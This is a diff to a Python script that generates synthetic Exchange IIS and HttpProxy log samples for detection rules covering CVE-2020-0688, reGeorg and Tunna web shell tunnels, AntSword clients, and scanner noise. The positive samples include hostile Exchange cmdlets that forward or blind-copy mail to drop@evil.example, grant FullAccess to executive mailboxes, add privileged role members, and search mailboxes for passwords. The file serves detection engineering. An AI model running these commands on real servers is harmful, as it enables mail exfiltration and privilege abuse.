@@ -685,11 +685,11 @@ CMDLETS = [
 ]
 
 
-def cmdlets():
+def cmdlets(table=None):
     day = dt.date(2021, 8, 12)
     benign = [('Get-Mailbox', '-ResultSize "1"', 'Get-Mailbox'),
               ('Get-ExchangeServer', '', 'Get-ExchangeServer')]
-    for stem, pos, neg in CMDLETS:
+    for stem, pos, neg in table or CMDLETS:
         for kind, items in (('positive', pos), ('negative', neg)):
             items = benign + items
             t0 = mx.at(day, 4 if kind == 'positive' else 9, 2)
@@ -703,6 +703,376 @@ def cmdlets():
                                'msExchEcpCanary=%032x'
                                % RNG.getrandbits(128), rng=RNG))
                 for t, (_, _, cmd) in zip(times, items)])
+
+
+# Rules added for issue 3 (CVE-2020-0688, web shell tunnels and clients,
+# more cmdlets) and the scanner-noise negatives of the web rules. They run
+# after the others so that the samples above stay byte for byte the same.
+
+# A made-up ViewState: the base64 prefix every serialized ViewState starts
+# with (/wEy), then random characters: no gadget, nothing runs.
+def fake_viewstate():
+    alphabet = ('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz'
+                '0123456789')
+    body = ''.join(RNG.choice(alphabet) for _ in range(180))
+    return '%2FwEy' + body + '%3D%3D'
+
+
+def cve_2020_0688():
+    day = dt.date(2020, 3, 6)
+    att, scan = '198.51.100.88', '192.0.2.57'
+    ua = ('Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 '
+          '(KHTML, like Gecko) Chrome/80.0.3987.122 Safari/537.36')
+    # The public exploits: log in, GET /ecp/default.aspx for the session,
+    # then GET the page with the signed payload in the query.
+    def shape(page='/ecp/default.aspx', gen='B97B4E27', extra=''):
+        return (page, extra + '__VIEWSTATEGENERATOR=%s&__VIEWSTATE=%s'
+                % (gen, fake_viewstate()))
+
+    def chain(c, status, user='CONTOSO\\jdoe', ip=att):
+        page, query = shape()
+        page2, query2 = shape('/ecp/PersonalSettings/HomePage.aspx',
+                              '1D01FD4E', 'showhelp=false&')
+        return [
+            row(c, 'POST', '/owa/auth.owa', '-', 302, ip, ua),
+            row(c, 'GET', '/ecp/default.aspx', '-', 200, ip, ua, user),
+            row(c, 'GET', page, query, status, ip, ua, user),
+            row(c, 'GET', page2, query2, status, ip, ua, user)]
+
+    def refused(c):
+        page, query = shape()
+        return [
+            # No session: the ECP answers with the OWA logon page.
+            row(c, 'GET', page, query, 302, scan, 'python-requests/2.22.0'),
+            row(c, 'GET', page, query, 401, scan, 'python-requests/2.22.0'),
+            row(c, 'GET', '/ecp/Default.aspx', query, 403, scan,
+                'python-requests/2.22.0')]
+
+    def legit(c):
+        return [
+            row(c, 'GET', '/ecp/default.aspx', '-', 200, '10.10.1.5', BROWSER,
+                'CONTOSO\\administrator'),
+            row(c, 'POST', '/ecp/default.aspx', '-', 200, '10.10.1.5',
+                BROWSER, 'CONTOSO\\administrator'),
+            row(c, 'GET', '/ecp/PersonalSettings/HomePage.aspx',
+                'showhelp=false', 200, '10.10.3.9', BROWSER, 'CONTOSO\\jdoe'),
+            row(c, 'GET', '/ecp/default.aspx',
+                '__VIEWSTATEGENERATOR=B97B4E27', 200, '10.10.3.9', BROWSER,
+                'CONTOSO\\jdoe'),
+            # zgrab looking for the ECP (ISC diary 26132).
+            row(c, 'GET', '/owa/auth/logon.aspx', 'url=https://1/ecp/', 200,
+                scan, 'Mozilla/5.0 zgrab/0.x')]
+
+    c = clock(day, 2, 10)
+    iis('cve_2020_0688_exploitation', 'positive', day,
+        benign_web(c, 2) + chain(c, 500))
+    t = mx.at(day, 2, 20)
+    page, query = shape()
+    httpproxy('cve_2020_0688_exploitation', 'positive-httpproxy', 'Ecp', [
+        (t, mx.httpproxy_row(
+            RNG, t, 'Ecp', UrlStem=page, AuthenticationType='FBA',
+            AuthenticatedUser='CONTOSO\\jdoe',
+            AnchorMailbox='Sid~%s-1105' % mx.DOMAIN_SID, UserAgent=ua,
+            ClientIpAddress=att, HttpStatus=500, BackEndStatus=500,
+            Method='GET', UrlQuery='?' + query)),
+        (t + dt.timedelta(seconds=4), mx.benign_row(
+            RNG, t + dt.timedelta(seconds=4), 'Ecp'))])
+    c = clock(day, 9, 0)
+    iis('cve_2020_0688_exploitation', 'negative', day,
+        benign_web(c, 2) + refused(c) + legit(c))
+    c = clock(day, 11, 0)
+    iis('cve_2020_0688_attempt', 'positive', day,
+        benign_web(c, 1) + refused(c))
+    c = clock(day, 12, 0)
+    iis('cve_2020_0688_attempt', 'negative', day,
+        benign_web(c, 1) + chain(c, 500) + chain(c, 200) + legit(c))
+
+
+def tunnels():
+    day = dt.date(2021, 3, 9)
+    att, scan = '203.0.113.91', '192.0.2.73'
+    reg = '/aspnet_client/system_web/tunnel.aspx'
+    c = clock(day, 1, 30)
+    # reGeorgSocksProxy.py: the GET check, then POSTs with cmd= queries;
+    # urllib3 sends no user agent (IIS writes "-").
+    rows = [row(c, 'GET', reg, '-', 200, att, '-')]
+    rows += [row(c, 'POST', reg,
+                 'cmd=connect&target=10.10.1.10&port=3389', 200, att, '-')]
+    for cmd in ('forward', 'read', 'read', 'forward', 'read'):
+        rows.append(row(c, 'POST', reg, 'cmd=' + cmd, 200, att, '-'))
+    rows.append(row(c, 'POST', reg, 'cmd=disconnect', 200, att, '-'))
+    iis('webshell_tunnel_regeorg', 'positive', day, benign_web(c, 2) + rows)
+    c = clock(day, 9, 0)
+    iis('webshell_tunnel_regeorg', 'negative', day, benign_web(c, 2) + [
+        # The GET check alone, GETs, probes of a missing page, look-alikes.
+        row(c, 'GET', reg, '-', 200, att, '-'),
+        row(c, 'GET', reg, 'cmd=read', 200, scan, '-'),
+        row(c, 'POST', '/aspnet_client/tunnel.aspx', 'cmd=read', 404, scan,
+            '-'),
+        row(c, 'POST', '/intranet/tasks.aspx', 'cmd=readAll&list=7', 200,
+            '10.10.3.9', BROWSER, 'CONTOSO\\jdoe'),
+        row(c, 'POST', '/intranet/mail.aspx', 'action=forward&id=12', 200,
+            '10.10.3.9', BROWSER, 'CONTOSO\\jdoe'),
+        row(c, 'POST', '/ecp/DDI/DDIService.svc/GetList',
+            'schema=Mailboxes', 200, '10.10.1.5', BROWSER,
+            'CONTOSO\\administrator')])
+
+    conn = '/aspnet_client/conn.aspx'
+    py = 'Python-urllib/2.7'
+    c = clock(day, 2, 15)
+    # TunnaClient.py: ?proxy, the options request, data POSTs and pings
+    # to ?proxy, then ?proxy&close.
+    iis('webshell_tunnel_tunna', 'positive', day, benign_web(c, 2) + [
+        row(c, 'GET', conn, 'proxy', 200, att, py),
+        row(c, 'GET', conn, 'proxy&port=3389&ip=10.10.1.10&socks', 200,
+            att, py),
+        row(c, 'POST', conn, 'proxy', 200, att, py),
+        row(c, 'POST', conn, 'proxy', 200, att, py),
+        row(c, 'GET', conn, 'proxy&close', 200, att, py)])
+    c = clock(day, 10, 0)
+    iis('webshell_tunnel_tunna', 'negative', day, benign_web(c, 2) + [
+        row(c, 'GET', '/proxy.pac', '-', 200, '10.10.3.9', BROWSER),
+        row(c, 'GET', '/wpad.dat', 'proxy', 200, '10.10.3.9', BROWSER),
+        row(c, 'GET', '/intranet/settings.aspx', 'proxy=1', 200,
+            '10.10.3.9', BROWSER, 'CONTOSO\\jdoe'),
+        row(c, 'GET', '/intranet/settings.aspx', 'proxyAddress=10.10.1.1',
+            200, '10.10.3.9', BROWSER, 'CONTOSO\\jdoe'),
+        row(c, 'GET', conn, 'proxy', 404, scan, py)])
+
+    c = clock(day, 3, 5)
+    iis('webshell_client_antsword', 'positive', day, benign_web(c, 2) + [
+        row(c, 'POST', '/aspnet_client/system_web/discover.aspx', '-', 200,
+            att, 'antSword/v2.1'),
+        row(c, 'POST', '/owa/auth/errorFF.aspx', '-', 200, att,
+            'antSword/v2.0')])
+    c = clock(day, 11, 0)
+    iis('webshell_client_antsword', 'negative', day, benign_web(c, 2) + [
+        row(c, 'POST', '/aspnet_client/shell.aspx', '-', 404, scan,
+            'antSword/v2.1'),
+        row(c, 'POST', '/owa/auth/errorFF.aspx', '-', 404, scan,
+            'python-requests/2.25.1'),
+        row(c, 'GET', '/owa/', '-', 302, '10.10.3.9', BROWSER)])
+
+
+def scanner_noise(rule):
+    """Version probes (zgrab) and Exchange's own health probes, which are
+    neither attempts nor exploitation: HttpProxy and IIS rows."""
+    day = dt.date(2023, 1, 6)
+    zgrab, scan = 'Mozilla/5.0 zgrab/0.x', '192.0.2.99'
+    tool = ('/ecp/Current/exporttool/'
+            'microsoft.exchange.ediscovery.exporttool.application')
+    entry = 'negative-scanner-noise'
+    t = mx.at(day, 1, 0, 5)
+    health = 'CONTOSO\\HealthMailbox0c6a2b1'
+    # The rows copy the shapes of the real zgrab and AMProbe rows in
+    # ../shared/data/exchange-logs (Ecp, Ews, Mapi, PowerShell).
+    httpproxy(rule, entry, 'Ecp', [
+        (t, mx.httpproxy_row(
+            RNG, t, 'Ecp', UrlStem=tool, AuthenticationType='FBA',
+            IsAuthenticated='false',
+            AnchorMailbox='ServerVersion~Version 15.0 (Build 0.0)',
+            UserAgent=zgrab, ClientIpAddress=scan, Method='GET',
+            RoutingHint='EDiscoveryExportTool-ServerVersion'))])
+    httpproxy(rule, entry, 'Ews', [
+        (t, mx.httpproxy_row(
+            RNG, t, 'Ews', UrlHost='localhost', UrlStem='/ews/',
+            AuthenticatedUser=health,
+            AnchorMailbox='Sid~%s-1142' % mx.DOMAIN_SID,
+            UserAgent='AMProbe/Local/ClientAccess',
+            ClientIpAddress='127.0.0.1', BackEndStatus='', Method='GET'))])
+    httpproxy(rule, entry, 'Mapi', [
+        (t, mx.httpproxy_row(
+            RNG, t, 'Mapi', UrlStem='/mapi/emsmdb/', AuthenticatedUser=health,
+            AnchorMailbox='MailboxGuid~%s' % mx.DB_GUID,
+            UserAgent='MapiHttpClient', ClientIpAddress='10.10.1.20',
+            RoutingHint='MailboxGuidWithDomain',
+            UrlQuery='?mailboxId=%s@contoso.com' % mx.DB_GUID))])
+    httpproxy(rule, entry, 'PowerShell', [
+        (t, mx.httpproxy_row(
+            RNG, t, 'PowerShell', UrlStem='/powershell',
+            AuthenticationType='Kerberos', AuthenticatedUser=health,
+            AnchorMailbox='ServerVersion~Version 15.1 (Build 2176.2)',
+            UserAgent='Microsoft WinRM Client', ClientIpAddress='10.10.1.20',
+            RoutingHint='ExchClientVer-ServerCookie',
+            BackEndCookie='Server~%s~1942063431~2023-01-06T01:10:05' % mx.FQDN,
+            UrlQuery='?clientApplication=ActiveMonitor;'
+                     'PSVersion=5.1.14393.5582'))])
+    c = clock(day, 1, 0)
+    iis(rule, entry, day, [
+        row(c, 'GET', tool, '-', 200, scan, zgrab),
+        row(c, 'GET', '/owa/auth/logon.aspx', 'url=https://1/ecp/', 200,
+            scan, zgrab),
+        row(c, 'GET', '/owa/', '-', 302, scan, zgrab),
+        row(c, 'GET', '/ews/', '-', 200, '127.0.0.1',
+            'AMProbe/Local/ClientAccess', health),
+        row(c, 'GET', '/owa/healthcheck.htm', '-', 200, '127.0.0.1',
+            'AMProbe/Local/ClientAccess', '-'),
+        row(c, 'GET', '/ecp/healthcheck.htm', '-', 200, '127.0.0.1',
+            'AMProbe/Local/ClientAccess', '-'),
+        row(c, 'POST', '/powershell',
+            'clientApplication=ActiveMonitor;PSVersion=5.1.14393.5582', 200,
+            '10.10.1.20', WINRM, health, 80)])
+
+
+NOISE_RULES = [
+    'proxylogon_ssrf_serverinfo', 'proxylogon_ssrf_localhost',
+    'proxylogon_ssrf_autodiscover', 'proxylogon_ssrf_backendcookie',
+    'proxylogon_ecp_reset_vdir', 'hafnium_static_resource_post',
+    'exchange_webshell_access', 'proxyshell_exploitation',
+    'proxyshell_attempt', 'proxynotshell_exploitation',
+    'proxynotshell_attempt', 'owassrf_exploitation', 'owassrf_attempt',
+    'proxytoken_inbox_rule', 'cve_2020_0688_exploitation',
+    'cve_2020_0688_attempt', 'webshell_tunnel_regeorg',
+    'webshell_tunnel_tunna', 'webshell_client_antsword']
+
+TRANSPORT_BCC = 'drop@evil.example'
+CMDLETS_MORE = [
+    ('transport_rule_redirect', [
+        ('New-TransportRule',
+         '-Name "Archive" -SentToScope "InOrganization" -BlindCopyTo "%s"'
+         % TRANSPORT_BCC,
+         "New-TransportRule.Name='Archive'.SentToScope='InOrganization'."
+         "BlindCopyTo='%s'" % TRANSPORT_BCC),
+        ('Set-TransportRule',
+         '-Identity "Finance" -RedirectMessageTo "%s"' % TRANSPORT_BCC,
+         "Set-TransportRule.Identity='Finance'.RedirectMessageTo='%s'"
+         % TRANSPORT_BCC),
+        ('New-TransportRule',
+         '-Name "x" -From "ceo@contoso.com" -CopyTo:%s' % TRANSPORT_BCC,
+         "New-TransportRule.Name='x'.From='ceo@contoso.com'.CopyTo='%s'"
+         % TRANSPORT_BCC)],
+     [('New-TransportRule',
+       '-Name "Disclaimer" -SentToScope "NotInOrganization" '
+       '-ApplyHtmlDisclaimerLocation "Append" -ApplyHtmlDisclaimerText '
+       '"Confidential"',
+       "New-TransportRule.Name='Disclaimer'.SentToScope='NotInOrganization'."
+       "ApplyHtmlDisclaimerLocation='Append'"),
+      ('Set-TransportRule', '-Identity "Archive" -BlindCopyTo $null',
+       "Set-TransportRule.Identity='Archive'.BlindCopyTo=''"),
+      ('Get-TransportRule', '-Identity "Archive"',
+       "Get-TransportRule.Identity='Archive'"),
+      ('Remove-TransportRule', '-Identity "Archive" -Confirm:$false',
+       "Remove-TransportRule.Identity='Archive'"),
+      ('New-InboxRule', '-Name "fwd" -ForwardTo "%s"' % TRANSPORT_BCC,
+       "New-InboxRule.Name='fwd'.ForwardTo='%s'" % TRANSPORT_BCC)]),
+    ('mailbox_permission_fullaccess', [
+        ('Add-MailboxPermission',
+         '-Identity "ceo@contoso.com" -User "CONTOSO\\svc-sync" '
+         '-AccessRights "FullAccess" -InheritanceType "All"',
+         "Add-MailboxPermission.Identity='ceo@contoso.com'."
+         "User='CONTOSO\\svc-sync'.AccessRights='FullAccess'."
+         "InheritanceType='All'"),
+        ('Add-MailboxPermission',
+         '-Identity "cfo" -User "jdoe" -AccessRights "FullAccess" '
+         '-AutoMapping:$false',
+         "Add-MailboxPermission.Identity='cfo'.User='jdoe'."
+         "AccessRights='FullAccess'.AutoMapping='False'")],
+     [('Add-MailboxPermission',
+       '-Identity "ceo" -User "jdoe" -AccessRights "ReadPermission"',
+       "Add-MailboxPermission.Identity='ceo'.User='jdoe'."
+       "AccessRights='ReadPermission'"),
+      ('Add-MailboxPermission',
+       '-Identity "ceo" -User "jdoe" -AccessRights "FullAccess" -Deny:$true',
+       "Add-MailboxPermission.Identity='ceo'.User='jdoe'."
+       "AccessRights='FullAccess'.Deny='True'"),
+      ('Remove-MailboxPermission',
+       '-Identity "ceo" -User "jdoe" -AccessRights "FullAccess" '
+       '-Confirm:$false',
+       "Remove-MailboxPermission.Identity='ceo'.User='jdoe'."
+       "AccessRights='FullAccess'"),
+      ('Get-MailboxPermission', '-Identity "ceo@contoso.com"',
+       "Get-MailboxPermission.Identity='ceo@contoso.com'")]),
+    ('role_group_member_privileged', [
+        ('Add-RoleGroupMember',
+         '-Identity "Organization Management" -Member "svc-sync"',
+         "Add-RoleGroupMember.Identity='Organization Management'."
+         "Member='svc-sync'"),
+        ('Add-RoleGroupMember',
+         '-Identity "Discovery Management" -Member "jdoe"',
+         "Add-RoleGroupMember.Identity='Discovery Management'.Member='jdoe'"),
+        ('Update-RoleGroupMember',
+         '-Identity "Recipient Management" -Members "jdoe","helpdesk1"',
+         "Update-RoleGroupMember.Identity='Recipient Management'."
+         "Members='jdoe,helpdesk1'")],
+     [('Add-RoleGroupMember', '-Identity "Help Desk" -Member "jdoe"',
+       "Add-RoleGroupMember.Identity='Help Desk'.Member='jdoe'"),
+      ('Add-RoleGroupMember',
+       '-Identity "View-Only Organization Management" -Member "auditor1"',
+       "Add-RoleGroupMember.Identity='View-Only Organization Management'."
+       "Member='auditor1'"),
+      ('Remove-RoleGroupMember',
+       '-Identity "Organization Management" -Member "olduser" '
+       '-Confirm:$false',
+       "Remove-RoleGroupMember.Identity='Organization Management'."
+       "Member='olduser'"),
+      ('Get-RoleGroupMember', '-Identity "Organization Management"',
+       "Get-RoleGroupMember.Identity='Organization Management'")]),
+    ('impersonation_role_assigned', [
+        ('New-ManagementRoleAssignment',
+         '-Name "EWSImp" -Role "ApplicationImpersonation" -User "svc-sync"',
+         "New-ManagementRoleAssignment.Name='EWSImp'."
+         "Role='ApplicationImpersonation'.User='svc-sync'"),
+        ('New-RoleGroup',
+         '-Name "Sync" -Roles "ApplicationImpersonation" -Members "jdoe"',
+         "New-RoleGroup.Name='Sync'.Roles='ApplicationImpersonation'."
+         "Members='jdoe'")],
+     [('Get-ManagementRoleAssignment', '-Role "ApplicationImpersonation"',
+       "Get-ManagementRoleAssignment.Role='ApplicationImpersonation'"),
+      ('Remove-ManagementRoleAssignment',
+       '-Identity "ApplicationImpersonation-svc-sync" -Confirm:$false',
+       "Remove-ManagementRoleAssignment.Identity="
+       "'ApplicationImpersonation-svc-sync'"),
+      ('New-ManagementRoleAssignment',
+       '-Role "Mail Recipients" -User "jdoe"',
+       "New-ManagementRoleAssignment.Role='Mail Recipients'.User='jdoe'")]),
+    ('mailbox_search_copy', [
+        ('New-MailboxSearch',
+         '-Name "q1" -SourceMailboxes "ceo@contoso.com","cfo@contoso.com" '
+         '-SearchQuery "password OR invoice" -TargetMailbox '
+         '"jdoe@contoso.com"',
+         "New-MailboxSearch.Name='q1'.SourceMailboxes="
+         "'ceo@contoso.com,cfo@contoso.com'.SearchQuery='password OR "
+         "invoice'.TargetMailbox='jdoe@contoso.com'"),
+        ('New-ComplianceSearch',
+         '-Name "all" -ExchangeLocation "All" -ContentMatchQuery "password"',
+         "New-ComplianceSearch.Name='all'.ExchangeLocation='All'."
+         "ContentMatchQuery='password'")],
+     [('New-MailboxSearch',
+       '-Name "hold" -SourceMailboxes "ceo@contoso.com" '
+       '-InPlaceHoldEnabled $true',
+       "New-MailboxSearch.Name='hold'.SourceMailboxes='ceo@contoso.com'."
+       "InPlaceHoldEnabled='True'"),
+      ('New-MailboxSearch',
+       '-Name "est" -SourceMailboxes "ceo@contoso.com" -SearchQuery '
+       '"invoice" -EstimateOnly',
+       "New-MailboxSearch.Name='est'.SourceMailboxes='ceo@contoso.com'."
+       "SearchQuery='invoice'.EstimateOnly='True'"),
+      ('New-ComplianceSearch',
+       '-Name "case7" -ExchangeLocation "jdoe@contoso.com" '
+       '-ContentMatchQuery "contract"',
+       "New-ComplianceSearch.Name='case7'.ExchangeLocation="
+       "'jdoe@contoso.com'.ContentMatchQuery='contract'"),
+      ('Get-MailboxSearch', '-Identity "q1"',
+       "Get-MailboxSearch.Identity='q1'")]),
+]
+
+NEW_RULES = ['cve_2020_0688_exploitation', 'cve_2020_0688_attempt',
+             'webshell_tunnel_regeorg', 'webshell_tunnel_tunna',
+             'webshell_client_antsword'] + [
+    '%s_%s' % (c[0], f) for c in CMDLETS_MORE for f in ('ecp', 'rps')]
+
+
+def more_rules():
+    for r in NEW_RULES:
+        shutil.rmtree(os.path.join(HERE, r), ignore_errors=True)
+    for r in NOISE_RULES:
+        shutil.rmtree(os.path.join(HERE, r, 'negative-scanner-noise'),
+                      ignore_errors=True)
+    cve_2020_0688()
+    tunnels()
+    cmdlets(CMDLETS_MORE)
+    for r in NOISE_RULES:
+        scanner_noise(r)
 
 
 RULES = ['proxyshell_attempt', 'proxyshell_exploitation',
@@ -723,6 +1093,7 @@ def main():
     webshell()
     proxytoken()
     cmdlets()
+    more_rules()
     return 0
 
 
